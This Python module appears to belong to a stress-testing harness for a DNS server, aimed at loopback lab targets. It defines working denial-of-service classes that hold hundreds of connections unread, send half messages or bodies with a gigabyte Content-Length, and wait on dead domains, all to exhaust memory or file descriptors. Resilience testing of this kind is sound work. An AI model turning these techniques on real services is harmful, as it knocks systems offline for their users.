"""Connections that hold memory: what their clients do not read, or do not
finish."""

import contextlib
import socket
import time

import wire
from attack import Attack, Sent, Stream

_SOURCES = [f"127.0.9.{i}" for i in range(1, 17)]
_SMALL = 4096  # the receive buffer of a client that does not read


def _connect(target, source, port):
    """None if it is refused."""
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL)
    made.bind((source, 0))
    made.settimeout(1)
    try:
        made.connect((target.address, port))
    except OSError:
        made.close()
        return None
    made.setblocking(False)
    return Stream(made)


class Held(Attack):
    """Opens `connections`, sends over each what `octets` says, and holds
    them.  Those that the server closes are opened again, ten times a second.
    """

    connections = 900
    sources = _SOURCES
    reads = False
    messages_each = 0

    def octets(self, target, number):
        raise NotImplementedError

    def port(self, target):
        return target.port

    def attack(self, target):
        sent, held = Sent(), {}
        last = time.monotonic() + target.seconds
        while time.monotonic() < last:
            for number in range(self.connections):
                if number not in held and time.monotonic() < last:
                    self._open(target, number, held, sent)
            for number, one in list(held.items()):
                one.flush()
                if self._is_closed(one):
                    one.socket.close()
                    del held[number]
                    sent.shed += 1
            time.sleep(0.1)
        return sent

    def _open(self, target, number, held, sent):
        one = _connect(target, self.sources[number % len(self.sources)],
                       self.port(target))
        if one is None:
            sent.shed += 1
            return
        octets = self.octets(target, number)
        one.send(octets)
        sent.messages += self.messages_each
        sent.octets += len(octets)
        held[number] = one

    @staticmethod
    def _is_closed(one):
        if not one.open:
            return True
        with contextlib.suppress(BlockingIOError):
            try:
                return not one.socket.recv(1, socket.MSG_PEEK)
            except OSError:
                return True
        return False


class UnreadAnswers(Held):
    name = "2a"
    what = ("160 connections wait for 60 answers of 60 KiB each, that come at "
            "once and are not read")
    connections = 160
    messages_each = 60

    def octets(self, target, number):
        return b"".join(wire.framed(wire.question(
            f"b{(number + i) % 4}.late.test", "TXT", i)) for i in range(60))


class UnreadCachedAnswers(Held):
    name = "2b"
    what = "900 connections ask for 60 cached answers of 60 KiB, read nothing"
    messages_each = 60

    def octets(self, target, number):
        return b"".join(wire.framed(wire.question(
            f"b{i % 8}.big.test", "TXT", i)) for i in range(60))


class HalfMessages(Held):
    name = "2c"
    what = "950 connections send 60,000 octets of a message, and wait"
    connections = 950
    messages_each = 1

    def octets(self, target, number):
        return b"\xff\xff" + bytes(60_000)


class ConnectionsThatWait(Held):
    name = "2d"
    what = ("2,000 connections of 16 clients wait for the answer of a dead "
            "domain")
    connections = 2000
    messages_each = 1

    def octets(self, target, number):
        return wire.framed(wire.question(f"w{number}.dead.test"))


class UnreadByOneClient(UnreadCachedAnswers):
    name = "2e"
    what = "as 2b, all of one client, 1,500 connections"
    connections = 1500
    sources = _SOURCES[:1]


class UnreadZoneAnswers(Held):
    name = "2f"
    what = "as 2b, large answers of the zone tier"
    messages_each = 400

    def port(self, target):
        return target.zone_port

    def octets(self, target, number):
        return b"".join(wire.framed(wire.question(
            "crowd.lab.svc.cluster.local", "SRV", i)) for i in range(400))


class UnreadPages(Held):
    name = "5e"
    what = "900 connections ask for /metrics and /debug/zone, read nothing"
    messages_each = 20

    def port(self, target):
        return target.http_port

    def octets(self, target, number):
        path = b"/debug/zone?name=cluster.local" if number & 1 else b"/metrics"
        return b"GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % path * 20


class LargeRequests(Held):
    name = "5f"
    what = "900 connections send headers and a body of 64 KiB"
    messages_each = 1

    def port(self, target):
        return target.http_port

    def octets(self, target, number):
        return (b"POST /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                b"Content-Length: 1000000000\r\n" + (
                    b"\r\n" if number & 1 else b"X-Long: ") + b"x" * 65536)


class FewDescriptors(ConnectionsThatWait):
    name = "13b"
    what = "as 2d, with 256 file descriptors"
    prefix = ("prlimit", "--nofile=256:256")


ATTACKS = [UnreadAnswers(), UnreadCachedAnswers(), HalfMessages(),
           ConnectionsThatWait(), UnreadByOneClient(), UnreadZoneAnswers(),
           UnreadPages(), LargeRequests()]
MORE = [FewDescriptors()]
